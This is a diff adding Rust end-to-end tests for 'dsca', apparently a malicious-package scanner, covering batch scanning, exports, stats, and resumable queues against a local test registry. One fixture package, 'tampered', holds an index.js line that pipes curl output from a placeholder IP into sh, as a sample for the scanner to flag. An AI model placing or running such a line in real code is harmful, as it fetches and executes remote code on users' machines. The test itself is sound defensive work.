@@ -1,0 +1,570 @@
+//! `dsca batch`, `stats` and `export` end to end: the real binary against the local test
+//! registry, with SQLite stores in temp dirs. Offline and deterministic.
+
+use assert_cmd::Command;
+use dsca_test::{PackageBuilder, PublishOptions, TempHome, TestRegistry};
+use serde_json::Value;
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+const NOW: &str = "2026-01-15T12:00:00Z";
+const PUBLISHED: &str = "2025-06-01T10:00:00.000Z";
+
+fn dsca(home: &TempHome) -> Command {
+    let mut cmd = Command::cargo_bin("dsca").expect("the dsca binary is built");
+    cmd.envs(home.envs())
+        .env("DSCA_NOW", NOW)
+        .env_remove("NPM_CONFIG_REGISTRY")
+        .env_remove("npm_config_registry")
+        .env_remove("DSCA_DB")
+        .current_dir(home.project_dir());
+    cmd
+}
+
+struct Run {
+    code: i32,
+    stdout: String,
+    stderr: String,
+}
+
+fn run(cmd: &mut Command) -> Run {
+    let output = cmd.output().expect("run dsca");
+    Run {
+        code: output.status.code().expect("dsca exited normally"),
+        stdout: String::from_utf8(output.stdout).expect("stdout is UTF-8"),
+        stderr: String::from_utf8(output.stderr).expect("stderr is UTF-8"),
+    }
+}
+
+fn publish(registry: &TestRegistry, package: PackageBuilder) {
+    registry.publish_with(
+        package.build(),
+        PublishOptions {
+            time: Some(PUBLISHED.to_string()),
+            ..PublishOptions::default()
+        },
+    );
+}
+
+/// Three harmless packages and one whose tarball does not match its integrity (judged
+/// malicious by DSCA501).
+fn small_registry() -> TestRegistry {
+    let registry = TestRegistry::start();
+    // `debug` is rank 3 of the bundled popularity list: it counts in every top tier.
+    for name in ["alpha", "beta", "gamma", "debug"] {
+        publish(
+            &registry,
+            PackageBuilder::new(name, "1.0.0")
+                .manifest_field("description", "harmless".into())
+                .manifest_field("repository", format!("github:demo/{name}").into())
+                .file("index.js", "module.exports = 1;\n"),
+        );
+    }
+    registry.publish_with(
+        PackageBuilder::new("tampered", "1.0.0")
+            .file(
+                "index.js",
+                "require('child_process').exec('curl http://203.0.113.9/x | sh');\n",
+            )
+            .build(),
+        PublishOptions {
+            time: Some(PUBLISHED.to_string()),
+            integrity_override: Some(format!("sha512-{}", "A".repeat(86) + "==")),
+            ..PublishOptions::default()
+        },
+    );
+    registry
+}
+
+fn write(home: &TempHome, name: &str, contents: &str) -> PathBuf {
+    let path = home.project_dir().join(name);
+    std::fs::write(&path, contents).expect("write the input");
+    path
+}
+
+fn db_path(home: &TempHome) -> String {
+    home.path().join("results.db").display().to_string()
+}
+
+/// `dsca batch` against the test registry into `db`, with `args` naming the input.
+fn batch(home: &TempHome, registry: &TestRegistry, db: &str, args: &[&str]) -> Run {
+    run(dsca(home)
+        .args(["batch", "--db", db, "--registry", registry.url()])
+        .args(args))
+}
+
+/// Every stored report (`dsca export --format jsonl`), by spec.
+fn exported(home: &TempHome, db: &str) -> Vec<Value> {
+    let out = run(dsca(home).args(["export", "--db", db, "--format", "jsonl"]));
+    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
+    out.stdout
+        .lines()
+        .map(|line| serde_json::from_str(line).expect("a JSON line"))
+        .collect()
+}
+
+fn specs_of(reports: &[Value]) -> Vec<String> {
+    reports
+        .iter()
+        .map(|report| report["spec"].as_str().expect("spec").to_string())
+        .collect()
+}
+
+#[test]
+fn a_names_file_is_scanned_into_the_store_with_unknown_names_recorded() {
+    let home = TempHome::new();
+    let registry = small_registry();
+    let db = db_path(&home);
+    write(
+        &home,
+        "names.txt",
+        "# a study\nalpha\nbeta # inline comment\n\ntampered\nno-such-package\nalpha\n",
+    );
+    let out = batch(
+        &home,
+        &registry,
+        &db,
+        &["--names-file", "names.txt", "-j", "2"],
+    );
+    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
+    assert!(
+        out.stderr.contains("5 name(s) read, 4 new"),
+        "{}",
+        out.stderr
+    );
+    let reports = exported(&home, &db);
+    let mut specs = specs_of(&reports);
+    specs.sort();
+    assert_eq!(specs, ["alpha", "beta", "no-such-package", "tampered"]);
+    let unknown = reports
+        .iter()
+        .find(|report| report["spec"] == "no-such-package")
+        .expect("the unknown name is recorded");
+    assert_eq!(unknown["errors"][0]["code"], "not-found");
+
+    // Running it again finds nothing left to do and scans nothing twice.
+    let requests_before = registry.requests().len();
+    let again = batch(&home, &registry, &db, &["--names-file", "names.txt"]);
+    assert_eq!(again.code, 0, "stderr: {}", again.stderr);
+    assert!(
+        again.stderr.contains("0 new in the queue"),
+        "{}",
+        again.stderr
+    );
+    assert_eq!(registry.requests().len(), requests_before);
+    assert_eq!(exported(&home, &db).len(), 4);
+}
+
+#[test]
+fn stats_and_exports_of_a_small_study() {
+    let home = TempHome::new();
+    let registry = small_registry();
+    let db = db_path(&home);
+    write(
+        &home,
+        "names.json",
+        "[\"alpha\", \"debug\", \"gamma\", \"tampered\", \"no-such-package\"]",
+    );
+    let out = batch(&home, &registry, &db, &["--names", "names.json", "-j", "1"]);
+    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
+
+    let stats = run(dsca(&home).args(["stats", "--db", &db]));
+    assert_eq!(stats.code, 0, "stderr: {}", stats.stderr);
+    insta::assert_snapshot!("batch_stats_text", stats.stdout);
+    let json = run(dsca(&home).args(["stats", "--db", &db, "--format", "json"]));
+    let value: Value = serde_json::from_str(&json.stdout).expect("stats JSON");
+    assert_eq!(value["packages"], 5);
+    assert_eq!(value["failed"], 2);
+
+    let csv = run(dsca(&home).args(["export", "--db", &db, "--format", "csv"]));
+    assert_eq!(csv.code, 0, "stderr: {}", csv.stderr);
+    // The scan time differs per run: compare everything before it.
+    let rows: Vec<String> = csv
+        .stdout
+        .lines()
+        .map(|line| {
+            line.rsplit_once(',')
+                .map_or(line, |(head, _)| head)
+                .to_string()
+        })
+        .collect();
+    insta::assert_snapshot!("batch_export_csv", rows.join("\n"));
+
+    let osv = run(dsca(&home).args(["export", "--db", &db, "--format", "osv"]));
+    assert_eq!(osv.code, 0, "stderr: {}", osv.stderr);
+    let records: Vec<Value> = osv
+        .stdout
+        .lines()
+        .map(|line| serde_json::from_str(line).expect("an OSV record"))
+        .collect();
+    assert_eq!(records.len(), 1, "{}", osv.stdout);
+    let mut record = records[0].clone();
+    for field in ["modified", "published"] {
+        assert!(record[field].as_str().is_some_and(|t| t.ends_with('Z')));
+        record[field] = "[time]".into();
+    }
+    let text = serde_json::to_string_pretty(&record)
+        .expect("JSON")
+        .replace(registry.url().trim_end_matches('/'), "http://[registry]");
+    insta::assert_snapshot!("batch_export_osv", text);
+
+    // Written whole to a file with -o.
+    let file = home.path().join("out.jsonl");
+    let to_file = run(dsca(&home).args([
+        "export",
+        "--db",
+        &db,
+        "--format",
+        "jsonl",
+        "-o",
+        file.to_str().expect("UTF-8"),
+    ]));
+    assert_eq!(to_file.code, 0, "stderr: {}", to_file.stderr);
+    assert_eq!(
+        std::fs::read_to_string(&file)
+            .expect("export file")
+            .lines()
+            .count(),
+        5
+    );
+}
+
+#[test]
+fn top_n_queues_the_most_downloaded_packages() {
+    let home = TempHome::new();
+    let db = db_path(&home);
+    let out = run(dsca(&home).args(["batch", "--top", "25", "--db", &db, "--enqueue-only"]));
+    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
+    assert!(
+        out.stderr.contains("25 name(s) read, 25 new"),
+        "{}",
+        out.stderr
+    );
+    assert!(
+        out.stderr
+            .contains("25 job(s): 0 done, 0 failed, 25 queued"),
+        "{}",
+        out.stderr
+    );
+}
+
+/// Run `dsca batch FLAG FILE` over `contents`: it must fail; returns its standard error.
+fn refused_names(home: &TempHome, flag: &str, file: &str, contents: &str) -> String {
+    write(home, file, contents);
+    let db = db_path(home);
+    let out = run(dsca(home).args(["batch", flag, file, "--db", &db, "--enqueue-only"]));
+    assert_eq!(out.code, 2, "{flag} {file} was accepted");
+    out.stderr.trim().to_string()
+}
+
+#[test]
+fn malformed_names_inputs_are_refused_with_their_position() {
+    let home = TempHome::new();
+    assert_eq!(
+        refused_names(
+            &home,
+            "--names",
+            "bad.json",
+            "[\"alpha\",\n \"beta\" \"gamma\"]"
+        ),
+        "dsca: error: bad.json: expected `,` or `]` at byte 18"
+    );
+    assert_eq!(
+        refused_names(&home, "--names", "object.json", "{\"names\": []}"),
+        "dsca: error: object.json: expected `[` (a JSON array of names) at byte 0"
+    );
+    assert_eq!(
+        refused_names(&home, "--names-file", "bad.txt", "alpha\nbeta gamma\n"),
+        "dsca: error: bad.txt: line 2: `beta gamma` holds whitespace: one spec a line"
+    );
+    let db = db_path(&home);
+    let out = run(dsca(&home).args(["batch", "--names-file", "missing.txt", "--db", &db]));
+    assert_eq!(out.code, 2);
+    assert!(
+        out.stderr
+            .starts_with("dsca: error: cannot open missing.txt"),
+        "{}",
+        out.stderr
+    );
+}
+
+#[test]
+fn a_store_written_by_a_newer_dsca_is_refused() {
+    let home = TempHome::new();
+    let db = db_path(&home);
+    {
+        let store = dsca_store::Store::open(&db).expect("open");
+        store
+            .force_schema_version(dsca_store::SCHEMA_VERSION + 5)
+            .expect("bump the version");
+    }
+    for args in [
+        vec!["batch", "--top", "3", "--db", &db],
+        vec!["stats", "--db", &db],
+        vec!["export", "--db", &db, "--format", "jsonl"],
+    ] {
+        let out = run(dsca(&home).args(&args));
+        assert_eq!(out.code, 2, "{args:?}");
+        assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
+        assert!(
+            out.stderr.contains("written by a newer dsca"),
+            "{}",
+            out.stderr
+        );
+    }
+}
+
+/// Kill a batch with SIGKILL part-way, start it again: every package ends with exactly one
+/// result, and the packages finished before the kill are not scanned again.
+#[test]
+fn a_killed_batch_resumes_with_nothing_lost_or_doubled() {
+    let home = TempHome::new();
+    let (registry, names) = registry_of_many(&home, 120);
+    let db = db_path(&home);
+    let binary = assert_cmd::cargo::cargo_bin("dsca");
+    let mut child = std::process::Command::new(&binary)
+        .args([
+            "batch",
+            "--names-file",
+            "names.txt",
+            "--db",
+            &db,
+            "--registry",
+            registry.url(),
+            "-j",
+            "1",
+        ])
+        .envs(home.envs())
+        .env("DSCA_NOW", NOW)
+        .env_remove("DSCA_DB")
+        .current_dir(home.project_dir())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("start the batch");
+    let finished_at_kill = wait_for_results_in(&db, 5, Duration::from_secs(120));
+    child.kill().expect("kill the batch");
+    child.wait().expect("reap the batch");
+    let store = dsca_store::Store::open(&db).expect("open");
+    let counts = store.job_counts().expect("counts");
+    drop(store);
+    assert!(
+        counts.queued + counts.running > 0,
+        "the batch finished before it could be killed ({finished_at_kill} results seen): {counts:?}"
+    );
+    let tarballs_before = tarball_fetches(&registry);
+
+    let out = batch(
+        &home,
+        &registry,
+        &db,
+        &["--names-file", "names.txt", "-j", "2"],
+    );
+    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
+    let reports = exported(&home, &db);
+    let specs = specs_of(&reports);
+    let distinct: BTreeSet<&String> = specs.iter().collect();
+    assert_eq!(specs.len(), names.len(), "one result per package");
+    assert_eq!(distinct.len(), names.len());
+    assert!(
+        reports
+            .iter()
+            .all(|report| report["errors"].as_array().is_some_and(Vec::is_empty))
+    );
+    // Each package's tarball was fetched once over both runs, but for the ones in flight
+    // when the process died.
+    let tarballs = tarball_fetches(&registry);
+    let fetched_twice = tarballs.values().filter(|&&count| count > 1).count();
+    assert!(fetched_twice <= 1, "re-fetched: {tarballs:?}");
+    assert!(tarballs_before.len() < names.len());
+}
+
+/// Tarball requests per path in the test registry's log.
+fn tarball_fetches(registry: &TestRegistry) -> BTreeMap<String, usize> {
+    let mut counts = BTreeMap::new();
+    for (_method, path, _auth) in registry.requests() {
+        if path.ends_with(".tgz") {
+            *counts.entry(path).or_insert(0) += 1;
+        }
+    }
+    counts
+}
+
+/// Poll the store (a SQLite path or a PostgreSQL URL) until it holds `want` results.
+fn wait_for_results_in(db: &str, want: i64, limit: Duration) -> i64 {
+    let started = Instant::now();
+    loop {
+        let is_url = db.starts_with("postgres");
+        if (is_url || Path::new(db).exists())
+            && let Ok(store) = dsca_store::Store::open(db)
+            && let Ok(counts) = store.job_counts()
+            && counts.finished() >= want
+        {
+            return counts.finished();
+        }
+        assert!(started.elapsed() < limit, "no results after {limit:?}");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+/// The PostgreSQL tests share one database and empty it first: one at a time.
+static PG_SERIAL: std::sync::Mutex<()> = std::sync::Mutex::new(());
+
+/// The test PostgreSQL database, emptied, when DSCA_PG_TESTS=1 (see `.ci/postgres.sh`),
+/// with the guard that keeps the other PostgreSQL tests out while it lives.
+fn pg_database(test: &str) -> Option<(String, std::sync::MutexGuard<'static, ()>)> {
+    if std::env::var("DSCA_PG_TESTS").is_ok_and(|value| value == "1") {
+        let guard = PG_SERIAL
+            .lock()
+            .unwrap_or_else(|poisoned| poisoned.into_inner());
+        let url = std::env::var("DSCA_TEST_PG_URL")
+            .expect("DSCA_PG_TESTS=1 needs DSCA_TEST_PG_URL (see .ci/postgres.sh)");
+        let store = dsca_store::Store::open(&url).expect("open the test database");
+        store.reset_for_tests().expect("empty the test database");
+        Some((url, guard))
+    } else {
+        eprintln!("skipped {test}: PostgreSQL test (set DSCA_PG_TESTS=1 and DSCA_TEST_PG_URL)");
+        None
+    }
+}
+
+/// A registry of `count` packages with enough code to take a while each, and a names file.
+fn registry_of_many(home: &TempHome, count: usize) -> (TestRegistry, Vec<String>) {
+    let registry = TestRegistry::start();
+    let body = "function f(a) { return a + 1; }\n".repeat(4000);
+    let names: Vec<String> = (0..count).map(|i| format!("pkg-{i:03}")).collect();
+    for name in &names {
+        publish(
+            &registry,
+            PackageBuilder::new(name, "1.0.0").file("index.js", body.clone()),
+        );
+    }
+    write(home, "names.txt", &names.join("\n"));
+    (registry, names)
+}
+
+/// `dsca batch --enqueue-only` of the names file into `db`.
+fn enqueue_names_file(home: &TempHome, db: &str) {
+    let out = run(dsca(home).args([
+        "batch",
+        "--names-file",
+        "names.txt",
+        "--db",
+        db,
+        "--enqueue-only",
+    ]));
+    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
+}
+
+fn spawn_worker(
+    home: &TempHome,
+    registry: &TestRegistry,
+    db: &str,
+    extra: &[&str],
+) -> std::process::Child {
+    std::process::Command::new(assert_cmd::cargo::cargo_bin("dsca"))
+        .args([
+            "worker",
+            "--db",
+            db,
+            "--registry",
+            registry.url(),
+            "-j",
+            "1",
+        ])
+        .args(extra)
+        .envs(home.envs())
+        .env("DSCA_NOW", NOW)
+        .env_remove("DSCA_DB")
+        .current_dir(home.project_dir())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("start a worker")
+}
+
+fn assert_one_result_each(home: &TempHome, db: &str, names: &[String]) {
+    let mut specs = specs_of(&exported(home, db));
+    specs.sort();
+    assert_eq!(specs, names, "exactly one result per package");
+}
+
+/// `dsca batch --enqueue-only` fills a PostgreSQL queue; two `dsca worker` processes
+/// drain it together with no package scanned twice.
+#[test]
+fn postgres_two_worker_processes_share_one_queue() {
+    let Some((db, _serial)) = pg_database("postgres_two_worker_processes_share_one_queue") else {
+        return;
+    };
+    let home = TempHome::new();
+    let (registry, names) = registry_of_many(&home, 40);
+    enqueue_names_file(&home, &db);
+    let workers = [
+        spawn_worker(&home, &registry, &db, &[]),
+        spawn_worker(&home, &registry, &db, &[]),
+    ];
+    for worker in workers {
+        let output = worker.wait_with_output().expect("worker");
+        assert!(
+            output.status.success(),
+            "worker failed: {}",
+            String::from_utf8_lossy(&output.stderr)
+        );
+    }
+    assert_one_result_each(&home, &db, &names);
+    let tarballs = tarball_fetches(&registry);
+    assert_eq!(tarballs.len(), names.len());
+    assert!(tarballs.values().all(|&count| count == 1), "{tarballs:?}");
+}
+
+/// A worker killed mid-job leaves it `running`; once its lease runs out another worker
+/// claims it, and every package still ends with exactly one result.
+#[test]
+fn postgres_a_dead_workers_jobs_are_reclaimed_after_the_lease() {
+    let Some((db, _serial)) =
+        pg_database("postgres_a_dead_workers_jobs_are_reclaimed_after_the_lease")
+    else {
+        return;
+    };
+    let home = TempHome::new();
+    let (registry, names) = registry_of_many(&home, 60);
+    enqueue_names_file(&home, &db);
+    let mut doomed = spawn_worker(&home, &registry, &db, &["--lease-secs", "2"]);
+    wait_for_results_in(&db, 3, Duration::from_secs(120));
+    doomed.kill().expect("kill the worker");
+    doomed.wait().expect("reap the worker");
+    let counts = dsca_store::Store::open(&db)
+        .expect("open")
+        .job_counts()
+        .expect("counts");
+    assert!(
+        counts.queued + counts.running > 0,
+        "finished before the kill: {counts:?}"
+    );
+    let survivor = spawn_worker(&home, &registry, &db, &["--lease-secs", "2"]);
+    let output = survivor.wait_with_output().expect("worker");
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let after = dsca_store::Store::open(&db)
+        .expect("open")
+        .job_counts()
+        .expect("counts");
+    if after.running > 0 {
+        // The survivor emptied the queue before the dead worker's lease ran out: the
+        // leftover job is reclaimed by the next worker once it has.
+        std::thread::sleep(Duration::from_secs(3));
+        let output = spawn_worker(&home, &registry, &db, &[])
+            .wait_with_output()
+            .expect("worker");
+        assert!(
+            output.status.success(),
+            "{}",
+            String::from_utf8_lossy(&output.stderr)
+        );
+    }
+    assert_one_result_each(&home, &db, &names);
+}
